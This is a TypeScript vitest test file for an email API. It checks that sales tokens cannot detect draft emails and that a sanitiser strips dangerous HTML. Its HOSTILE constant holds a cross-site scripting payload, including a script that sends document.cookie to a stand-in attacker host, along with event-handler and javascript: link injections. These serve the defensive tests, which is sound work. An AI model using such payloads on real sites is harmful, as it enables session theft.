import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { approvedEmail, GREETING_EMAIL, groupWithMembers, outboxRows } from "../../helpers/email-setup";
import { createTestContext, type TestContext } from "../../helpers/test-app";

let t: TestContext;
beforeAll(async () => {
  t = await createTestContext();
});
afterAll(() => t.close());

const HOSTILE = `<p onclick="steal()">Hi {{person.firstName | "there"}} &amp; welcome, <b>{{account.name}}</b></p>
<script>fetch("https://evil.example/?c=" + document.cookie)</script>
<a href="javascript:alert(1)">click</a> <a href="https://example.com/?who={{person.email}}">ok</a>
<img src="https://tracker.example/p.gif" onerror="steal()"><iframe src="https://evil.example"></iframe>`;

describe("a sales token cannot tell a draft email exists", () => {
  it("sending, reading or previewing a draft answers exactly like an email that does not exist", async () => {
    const draft = await approvedEmail(t, {}, false);
    const g = await groupWithMembers(t, 1);
    const send = (emailId: string, key: string) =>
      t.call(
        "POST",
        `/api/groups/${g.groupId}/emails`,
        { emailId, personIds: [g.people[0]!.id], idempotencyKey: key },
        t.tokens.sales,
      );
    const onDraft = await send(draft.id, "sales-draft-1");
    const onMissing = await send("eml_doesnotexist", "sales-draft-2");
    expect(onDraft.status).toBe(404);
    expect(onMissing.status).toBe(404);
    const blank = (body: any, id: string) => JSON.parse(JSON.stringify(body).replaceAll(id, "<id>"));
    expect(blank(onDraft.body, draft.id)).toEqual(blank(onMissing.body, "eml_doesnotexist"));
    expect(JSON.stringify(onDraft.body)).not.toMatch(/draft|Intro|approve/i);
    expect((await t.call("GET", `/api/emails/${draft.id}`, undefined, t.tokens.sales)).status).toBe(404);
    const preview = await t.call(
      "POST",
      `/api/emails/${draft.id}/preview`,
      { groupId: g.groupId, personId: g.people[0]!.id },
      t.tokens.sales,
    );
    expect(preview.status).toBe(404);
    expect(await outboxRows(t)).toHaveLength(0);
    // Marketers still learn why: the draft is named, with a 409.
    const asMarketer = await t.call(
      "POST",
      `/api/groups/${g.groupId}/emails`,
      { emailId: draft.id, personIds: [g.people[0]!.id], idempotencyKey: "marketer-draft-1" },
      t.tokens.marketer,
    );
    expect(asMarketer.status).toBe(409);
    expect(asMarketer.body.error.message).toContain("is a draft");
  });
});

describe("email HTML is sanitised", () => {
  it("on save: scripts, event handlers, frames and javascript: links are removed and listed; tokens survive", async () => {
    const ws = await t.call("POST", "/api/workspaces", { name: "Sanitiser" });
    const created = await t.call("POST", "/api/emails", { workspaceId: ws.body.id, ...GREETING_EMAIL, htmlBody: HOSTILE });
    expect(created.status).toBe(201);
    expect(created.body.removedFromHtml).toEqual(["<iframe>", "<script>", "javascript: link", "onclick", "onerror"]);
    const stored = (await t.call("GET", `/api/emails/${created.body.id}`)).body.htmlBody as string;
    for (const bad of ["<script", "onclick", "onerror", "javascript:", "<iframe", "document.cookie"])
      expect(stored).not.toContain(bad);
    expect(stored).toContain('Hi {{person.firstName | "there"}} &amp; welcome, <b>{{account.name}}</b>');
    expect(stored).toContain('<a href="https://example.com/?who={{person.email}}">ok</a>');
    expect(stored).toContain('<img src="https://tracker.example/p.gif" />');
    expect((await t.call("GET", `/api/emails/${created.body.id}`)).body.removedFromHtml).toBeUndefined();

    const edited = await t.call("PATCH", `/api/emails/${created.body.id}`, { htmlBody: `${stored}<form><input></form>` });
    expect(edited.body.removedFromHtml).toEqual(["<form>", "<input>"]);
    const clean = await t.call("PATCH", `/api/emails/${created.body.id}`, { htmlBody: "<p>Plain {{person.firstName}}</p>" });
    expect(clean.body.removedFromHtml).toBeUndefined();
  });

  it("an approved email saved before the sanitiser existed is rendered clean in previews and sends", async () => {
    const email = await approvedEmail(t);
    await t.deps.db.updateTable("emails").set({ html_body: HOSTILE }).where("id", "=", email.id).execute();
    const g = await groupWithMembers(t, 1);
    const preview = await t.call("POST", `/api/emails/${email.id}/preview`, { groupId: g.groupId, personId: g.people[0]!.id });
    expect(preview.status).toBe(200);
    expect(preview.body.html).toContain("Hi Member0 &amp; welcome");
    for (const bad of ["<script", "onclick", "javascript:", "<iframe"]) expect(preview.body.html).not.toContain(bad);
    const sent = await t.call("POST", `/api/groups/${g.groupId}/emails`, {
      emailId: email.id,
      personIds: [g.people[0]!.id],
      idempotencyKey: "sanitised-send-1",
    });
    expect(sent.body.queued).toHaveLength(1);
    const row = (await outboxRows(t)).find((r) => r.id === sent.body.queued[0].outboxId)!;
    for (const bad of ["<script", "onclick", "javascript:", "<iframe"]) expect(row.html_body).not.toContain(bad);
    expect(row.html_body).toContain(`<a href="https://example.com/?who=${g.people[0]!.email}">ok</a>`);
  });
});
